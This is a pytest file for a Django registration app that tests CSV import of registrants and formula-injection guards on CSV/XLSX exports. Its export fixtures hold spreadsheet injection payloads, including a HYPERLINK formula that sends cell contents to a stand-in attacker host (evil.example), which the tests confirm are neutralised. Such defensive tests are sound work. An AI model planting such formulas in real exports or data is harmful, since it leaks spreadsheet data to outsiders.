"""CSV import of registrants and CSV/XLSX export (issue 3 point 11; S5, S7, P6.5, P6.8).

Import: every bad line reported with its number and reason, valid lines imported once,
capacity respected, the legal basis recorded, the file sealed then destroyed, re-running
imports nothing twice. Export: the formula-injection guard, read back with csv and
openpyxl.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client as Browser
from django.urls import reverse
from openpyxl import load_workbook

from livesession.audit.models import AuditEntry
from livesession.core.clock import freeze, now
from livesession.events.services import update_event
from livesession.protection.crypto import email_index
from livesession.protection.models import DataKey
from livesession.registrations import bulk, exports, imports
from livesession.registrations import services as reg
from livesession.registrations.fields_services import add_custom_field
from livesession.registrations.models import Import, ImportStatus, Registration
from livesession.registrations.models import RegistrationStatus as S

MIXED = (
    "\ufeffemail;Prénom;NOM;Company;ville;shoe size\r\n"          # 1 header (BOM, ;)
    "ok1@example.org;Ana;Alpha;ACME;;42\r\n"                      # 2 imported
    "not-an-email;Bad;Email;;;\r\n"                               # 3 bad email
    "ok2@example.org;Ben;;;;\r\n"                                 # 4 last name missing
    "ok3@example.org;Cal;Gamma;;Paris;\r\n"                       # 5 city not collected
    "OK1@Example.org;Ana;Alpha;;;\r\n"                            # 6 duplicate of line 2
    "ok4@example.org;\"Dee\r\nMulti\";Delta;;;\r\n"               # 7-8 one record
    "\r\n"                                                        # 9 empty line
    "already@example.org;Al;Ready;;;\r\n"                         # 10 already registered
    "ok5@example.org;Eve;Epsilon;;;\r\n"                          # 11 takes the last place
    "ok6@example.org;Fay;Phi;;;\r\n"                              # 12 over capacity
).encode()


def _values_of_the_file(text: str) -> list[str]:
    values = ["ok1@", "ok2@", "not-an-email", "Alpha", "Ben", "Gamma", "Paris", "ACME", "Dee",
              "already@", "Epsilon", "Phi"]
    return [value for value in values if value in text]


def _url(name: str, event: Any, **kwargs: Any) -> str:
    return reverse(f"manager:{name}", kwargs={"client_slug": event.client.slug,
                                              "event_id": event.pk, **kwargs})


@pytest.fixture
def owner(owner_a: Any) -> Browser:
    browser = Browser(HTTP_ACCEPT_LANGUAGE="en")
    browser.force_login(owner_a)
    return browser


@pytest.fixture
def event(event_a: Any) -> Any:
    """Four places, no waiting list; first and last names required, city not collected;
    one optional question."""
    add_custom_field(event_a, {"key": "company", "kind": "short_text", "label_fr": "Entreprise",
                               "label_en": "Company", "purpose": "know the audience"},
                     actor="test")
    update_event(event_a, actor="test", capacity=4, waitlist_enabled=False)
    reg.register(event_a, email="already@example.org", first_name="Al", last_name="Ready")
    event_a.refresh_from_db()
    return event_a


def _upload(browser: Browser, event: Any, data: bytes, name: str = "list.csv") -> Any:
    return browser.post(_url("registrants-import", event),
                        {"file": SimpleUploadedFile(name, data, "text/csv")})


def _import_of(response: Any) -> Import:
    assert response.status_code == 302, response.content.decode()[:2000]
    import_id = re.search(r"/import/([0-9a-f-]{36})/", response["Location"])
    assert import_id
    return Import.objects.get(pk=import_id.group(1))


def _confirm(browser: Browser, imp: Import, capture: Any, basis: str = "contract") -> Any:
    with capture(execute=True):
        response = browser.post(_url("registrants-import-confirm", imp.event,
                                     import_id=imp.pk), {"basis": basis})
    imp.refresh_from_db()
    return response


def _report(browser: Browser, imp: Import) -> list[list[str]]:
    response = browser.get(_url("registrants-import-report", imp.event, import_id=imp.pk))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_preview_reports_every_bad_line_with_its_number_and_reason(owner: Browser,
                                                                   event: Any) -> None:
    imp = _import_of(_upload(owner, event, MIXED))
    assert imp.status == ImportStatus.READY and imp.total == 9
    bad = {line: reason for line, reason in imp.analysis["bad"]}
    assert sorted(bad) == [3, 4, 5, 6]
    assert bad[3].startswith("Email") and "valid email" in bad[3]
    assert bad[4].startswith("Last name") and "required" in bad[4]
    assert bad[5].startswith("City") and "does not collect" in bad[5]
    assert bad[6] == "Same email as line 2: imported once."
    assert imp.analysis["valid"] == 4 and imp.analysis["already"] == 1
    assert imp.analysis["over_capacity"] == 1 and imp.analysis["seats_left"] == 3
    assert imp.analysis["ignored_columns"] == ["shoe size"]
    assert not Registration.objects.filter(channel="import").exists()  # nothing yet

    page = owner.get(_url("registrants-import-detail", event, import_id=imp.pk))
    html = page.content.decode()
    assert page.status_code == 200
    assert "ok1@example.org" in html and "ACME" in html          # the mapped preview
    assert "Dee\nMulti" in html or "Dee\r\nMulti" in html
    for line in ("3", "4", "5", "6"):
        assert f'<th scope="row">{line}</th>' in html
    assert "shoe size" in html and "will not be imported" in html
    assert 'name="basis"' in html


def test_the_file_is_sealed_then_destroyed(owner: Browser, event: Any,
                                           django_capture_on_commit_callbacks: Any) -> None:
    imp = _import_of(_upload(owner, event, MIXED))
    assert imp.content_enc and "ok1@example.org" not in imp.content_enc
    assert "Alpha" not in str(imp.analysis) + str(imp.line_numbers)
    assert DataKey.objects.get(subject_id=imp.pk).wrapped is not None
    _confirm(owner, imp, django_capture_on_commit_callbacks)
    assert imp.status == ImportStatus.DONE and imp.content_enc == ""
    assert DataKey.objects.get(subject_id=imp.pk).wrapped is None  # key shredded
    assert not _values_of_the_file(str(imp.reasons) + imp.outcomes)


def test_import_needs_a_legal_basis_and_records_it(owner: Browser, event: Any,
                                                   django_capture_on_commit_callbacks: Any
                                                   ) -> None:
    imp = _import_of(_upload(owner, event, MIXED))
    missing = owner.post(_url("registrants-import-confirm", event, import_id=imp.pk), {})
    assert missing.status_code == 400 and 'class="errorlist"' in missing.content.decode()
    imp.refresh_from_db()
    assert imp.status == ImportStatus.READY and not imp.basis
    _confirm(owner, imp, django_capture_on_commit_callbacks, basis="consent")
    assert imp.basis == "consent" and imp.confirmed_at is not None
    entry = AuditEntry.objects.get(action="registrations.import_confirmed")
    assert entry.details["basis"] == "consent" and entry.target == f"import:{imp.pk}"


def test_mixed_import_outcomes_line_by_line_and_capacity(owner: Browser, event: Any,
                                                         django_capture_on_commit_callbacks:
                                                         Any) -> None:
    imp = _import_of(_upload(owner, event, MIXED))
    _confirm(owner, imp, django_capture_on_commit_callbacks)
    assert imp.status == ImportStatus.DONE
    assert imp.processed == imp.total == 9
    report = _report(owner, imp)
    assert report[0] == ["Line", "Outcome", "Reason"]
    outcomes = {int(line): outcome for line, outcome, _reason in report[1:]}
    assert outcomes == {
        2: "imported", 3: "not imported: invalid line", 4: "not imported: invalid line",
        5: "not imported: invalid line", 6: "duplicate line", 7: "imported",
        10: "already registered", 11: "imported", 12: "not imported: the event is full",
    }
    assert not _values_of_the_file(str(report))  # line numbers, never the file's values
    imported = Registration.objects.filter(event=event, channel="import")
    assert imported.count() == 3 and set(imported.values_list("status", flat=True)) == {
        S.CONFIRMED}
    event.refresh_from_db()
    assert event.seats_taken == event.capacity == 4
    refused = [email_index(f"ok{n}@example.org") for n in (2, 3, 6)]
    assert not Registration.objects.filter(event=event, email_index__in=refused).exists()
    # Each imported registration says which import made it (and so on what basis).
    made = AuditEntry.objects.filter(action="registration.created", actor=f"import:{imp.pk}")
    assert made.count() == 3
    assert imports.summary(imp) == {"processed": 9, "total": 9, "imported": 3,
                                    "waitlisted": 0, "already": 1, "duplicates": 1,
                                    "invalid": 3, "full": 1}
    page = owner.get(_url("registrants-import-detail", event, import_id=imp.pk))
    assert page.status_code == 200 and "Finished" in page.content.decode()


def test_over_capacity_goes_to_the_waiting_list_when_there_is_one(
        owner: Browser, event: Any, django_capture_on_commit_callbacks: Any) -> None:
    update_event(event, actor="test", waitlist_enabled=True)
    imp = _import_of(_upload(owner, event, MIXED))
    _confirm(owner, imp, django_capture_on_commit_callbacks)
    line_12 = [row for row in _report(owner, imp) if row[0] == "12"]
    assert line_12 == [["12", "imported on the waiting list",
                        "The event is full: put on the waiting list."]]
    assert Registration.objects.filter(event=event, status=S.WAITLISTED).count() == 1


def test_running_the_same_file_again_imports_nothing_twice(owner: Browser, event: Any,
                                                           django_capture_on_commit_callbacks:
                                                           Any) -> None:
    first = _import_of(_upload(owner, event, MIXED))
    _confirm(owner, first, django_capture_on_commit_callbacks)
    count = Registration.objects.filter(event=event).count()
    # The same job rung again (a lost doorbell, a retry): nothing happens.
    imports.run(first.pk)
    assert Registration.objects.filter(event=event).count() == count
    second = _import_of(_upload(owner, event, MIXED))
    assert second.analysis["valid"] == 1  # only ok6, still over capacity
    assert second.analysis["already"] == 4
    _confirm(owner, second, django_capture_on_commit_callbacks)
    assert Registration.objects.filter(event=event).count() == count
    outcomes = {int(line): outcome for line, outcome, _r in _report(owner, second)[1:]}
    assert [outcomes[n] for n in (2, 7, 10, 11)] == ["already registered"] * 4
    assert outcomes[12] == "not imported: the event is full"


def test_a_cancelled_person_is_not_put_back(owner: Browser, event: Any,
                                            django_capture_on_commit_callbacks: Any) -> None:
    gone = Registration.objects.get(event=event)
    reg.cancel(gone, actor="participant", by_participant=True)
    data = b"email,first_name,last_name\nalready@example.org,Al,Ready\n"
    imp = _import_of(_upload(owner, event, data))
    _confirm(owner, imp, django_capture_on_commit_callbacks)
    gone.refresh_from_db()
    assert gone.status == S.CANCELLED
    assert _report(owner, imp)[1][:2] == ["2", "already registered"]


def test_a_crash_replays_at_most_one_batch_and_imports_each_line_once(
        event_a: Any, monkeypatch: Any) -> None:
    lines = "\n".join(f"r{i}@example.org,R{i},Row" for i in range(7))
    imp = imports.create_import(event_a, f"email,first_name,last_name\n{lines}\n".encode(),
                                actor="test")
    imports.confirm(imp, "contract", actor="test")
    monkeypatch.setattr(imports, "BATCH", 3)
    calls = {"n": 0}
    real = bulk.record_many

    def flaky(*args: Any, **kwargs: Any) -> Any:
        calls["n"] += 1
        # The worker dies in the middle of the second batch: its registrations, links and
        # messages are written, its audit entries not yet.
        if calls["n"] == 2:
            raise RuntimeError("worker killed")
        return real(*args, **kwargs)

    monkeypatch.setattr(bulk, "record_many", flaky)
    with pytest.raises(RuntimeError):
        imports.run(imp.pk)
    imp.refresh_from_db()
    assert imp.status == ImportStatus.RUNNING and imp.processed == 3
    assert Registration.objects.filter(event=event_a).count() == 3  # batch 2 rolled back
    imports.run(imp.pk)  # a second doorbell while the first run is fresh: nothing
    assert Registration.objects.filter(event=event_a).count() == 3
    with freeze(now() + imports.STALLED_AFTER + dt.timedelta(seconds=1)):
        assert imports.sweep() == ([], [str(imp.pk)])
        imports.run(imp.pk)
    imp.refresh_from_db()
    assert imp.status == ImportStatus.DONE and imp.outcomes == "I" * 7
    assert Registration.objects.filter(event=event_a).count() == 7


def test_large_files_are_checked_in_the_background_with_progress(
        owner: Browser, event: Any, monkeypatch: Any,
        django_capture_on_commit_callbacks: Any) -> None:
    monkeypatch.setattr(imports, "INLINE_RECORDS", 2)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        imp = _import_of(_upload(owner, event, MIXED))
    assert imp.status == ImportStatus.ANALYSING
    page = owner.get(_url("registrants-import-detail", event, import_id=imp.pk))
    assert "import-progress" in page.content.decode()
    status = owner.get(_url("registrants-import-status", event, import_id=imp.pk)).json()
    assert status["working"] and status["total"] == 9
    for callback in callbacks:
        callback()
    imp.refresh_from_db()
    assert imp.status == ImportStatus.READY and len(imp.analysis["bad"]) == 4
    _confirm(owner, imp, django_capture_on_commit_callbacks)
    status = owner.get(_url("registrants-import-status", event, import_id=imp.pk)).json()
    assert status == {"status": "done", "status_label": "Finished", "processed": 9,
                      "total": 9, "working": False, "summary": imports.summary(imp)}


@pytest.mark.parametrize(("data", "message"), [
    ("email,prénom\nx@example.org,Zoé\n".encode("latin-1"), "not in UTF-8"),
    (b"first_name,last_name\nAna,Alpha\n", "one of them \"email\""),
    (b"", "file is empty"),
    (b"email,first_name\n", "no registrant"),
])
def test_unusable_files_are_refused_with_a_reason(owner: Browser, event: Any, data: bytes,
                                                 message: str) -> None:
    response = _upload(owner, event, data)
    assert response.status_code == 400
    assert message in response.content.decode().replace("&quot;", '"')
    assert not Import.objects.exists()


def test_pasted_lines_and_comma_delimiter(owner: Browser, event: Any,
                                          django_capture_on_commit_callbacks: Any) -> None:
    text = 'email,first_name,last_name,company\npaste@example.org,Pa,"Ste, Jr",Org\n'
    imp = _import_of(owner.post(_url("registrants-import", event), {"text": text}))
    assert imp.delimiter == "," and imp.analysis["valid"] == 1
    _confirm(owner, imp, django_capture_on_commit_callbacks)
    row = Registration.objects.get(event=event, channel="import")
    assert (row.last_name, row.answers) == ("Ste, Jr", {"company": "Org"})


def test_a_file_too_large_never_reaches_the_disk(owner: Browser, event: Any,
                                                 monkeypatch: Any) -> None:
    monkeypatch.setattr(imports, "MAX_BYTES", 100)
    response = _upload(owner, event, b"email,first_name,last_name\n" + b"x" * 500)
    assert response.status_code == 400 and "larger than 20 MB" in response.content.decode()
    assert not Import.objects.exists()


def test_discarding_destroys_the_file(owner: Browser, event: Any) -> None:
    imp = _import_of(_upload(owner, event, MIXED))
    response = owner.post(_url("registrants-import-discard", event, import_id=imp.pk))
    assert response.status_code == 302
    imp.refresh_from_db()
    assert imp.status == ImportStatus.DISCARDED and imp.content_enc == ""
    assert DataKey.objects.get(subject_id=imp.pk).wrapped is None
    confirm = owner.post(_url("registrants-import-confirm", event, import_id=imp.pk),
                         {"basis": "contract"})
    assert confirm.status_code == 302
    assert not Registration.objects.filter(channel="import").exists()


def test_unconfirmed_files_are_discarded_after_a_day(event_a: Any) -> None:
    imp = imports.create_import(event_a, b"email,first_name,last_name\na@b.org,A,B\n",
                                actor="test")
    with freeze(now() + imports.UNCONFIRMED_FOR + dt.timedelta(minutes=1)):
        imports.sweep()
    imp.refresh_from_db()
    assert imp.status == ImportStatus.DISCARDED and imp.content_enc == ""


# --- Export -----------------------------------------------------------------------------------

DANGEROUS = {
    "hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
}


@pytest.fixture
def dangerous(event_a: Any) -> Any:
    add_custom_field(event_a, {"key": "company", "kind": "short_text", "label_fr": "Entreprise",
                               "label_en": "Company", "purpose": "know the audience"},
                     actor="test")
    for key, value in DANGEROUS.items():
        reg.register(event_a, {"email": f"{key}@example.org", "first_name": value,
                               "last_name": "Plain", "answers": {"company": "=1+1"}})
    return event_a


def _expected_guarded() -> set[str]:
    return {"'" + value for value in DANGEROUS.values()}


def test_csv_export_guards_formulas(owner: Browser, dangerous: Any) -> None:
    response = owner.get(_url("registrants-export-csv", dangerous), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    header = rows[0]
    assert header[:4] == ["Email", "First name", "Last name", "Company"]
    assert header[4:] == ["Status", "Registered on", "Confirmed on", "Cancelled on",
                          "Language"]
    first_names = {row[1] for row in rows[1:]}
    assert first_names == _expected_guarded()
    assert {row[3] for row in rows[1:]} == {"'=1+1"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports.DANGEROUS), cell
    assert {row[4] for row in rows[1:]} == {"Confirmed"}


def test_xlsx_export_guards_formulas(owner: Browser, dangerous: Any) -> None:
    response = owner.get(_url("registrants-export-xlsx", dangerous), HTTP_ACCEPT_LANGUAGE="fr")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][:4] == ["Adresse e-mail", "Prénom", "Nom", "Entreprise"]
    assert {row[1].value for row in rows[1:]} == _expected_guarded()
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula anywhere
            if isinstance(cell.value, str):
                assert not cell.value.startswith(exports.DANGEROUS), cell.value


def test_large_csv_exports_are_streamed(owner: Browser, dangerous: Any,
                                        monkeypatch: Any) -> None:
    monkeypatch.setattr(exports, "STREAM_FROM", 1)
    monkeypatch.setattr(exports, "CHUNK", 4)  # several chunks, each with its keys
    response = owner.get(_url("registrants-export-csv", dangerous))
    assert response.streaming
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == 1 + len(DANGEROUS)
    assert len({row[0] for row in rows[1:]}) == len(DANGEROUS)  # each person once


def test_guard_leaves_ordinary_values_alone() -> None:
    assert exports.guard("Dupont") == "Dupont"
    assert exports.guard("") == ""
    assert exports.guard(12) == 12
    assert exports.guard("a=b") == "a=b"
    assert exports.guard("-") == "'-"
    # Tab and carriage return are trimmed from answers by the form, but not from every
    # future column: the guard covers them too.
    assert exports.guard("\tTab") == "'\tTab"
    assert exports.guard("\rReturn") == "'\rReturn"
